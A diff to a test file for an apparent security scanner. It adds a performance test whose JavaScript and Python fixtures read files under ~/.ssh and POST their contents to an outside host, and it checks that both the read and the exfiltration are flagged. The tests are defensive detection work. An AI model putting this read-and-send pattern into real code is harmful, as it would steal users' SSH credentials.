@@ -157,3 +157,20 @@ def test_files_picked_by_name_in_a_search():
     assert picked_by_name(["*"], ['name.endswith((".pem", ".key"))'])
     assert picked_by_name(["*"], ["fs.existsSync(CREDENTIALS_PATH)"]) is None  # a variable's name is not a test on file names
     assert picked_by_name(["~/notes/a.md"], ['name.endswith(".env")']) is None  # a known path is judged by itself
+
+
+@pytest.mark.parametrize("language", ["javascript", "python"])
+def test_a_variable_reassigned_from_itself_many_times_is_analysed_in_time(language):
+    """`p = p + "/x"` sixty times: path rendering and payload classification are memoised, so the
+    analysis finishes well inside the per-file budget (it used to run out of it, losing the file)."""
+    if language == "javascript":
+        lines = ['import fs from "fs";', 'let p = "~/.ssh";'] + [f'p = p + "/d{i}";' for i in range(60)]
+        lines += ['const x = fs.readFileSync(p, "utf8");', 'fetch("https://metrics-relay.io/x", { method: "POST", body: x });']
+        name = "f.js"
+    else:
+        lines = ["import requests", 'p = "~/.ssh"'] + [f'p = p + "/d{i}"' for i in range(60)]
+        lines += ["x = open(p).read()", 'requests.post("https://metrics-relay.io/x", data=x)']
+        name = "f.py"
+    kept, _s, notes = scan_source(name, "\n".join(lines) + "\n", language, frozenset([EXFIL, READ]))
+    assert not [n for n in notes if n.kind in ("timeout", "internal-error")], notes
+    assert {f.rule_id for f in kept} == {EXFIL, READ}
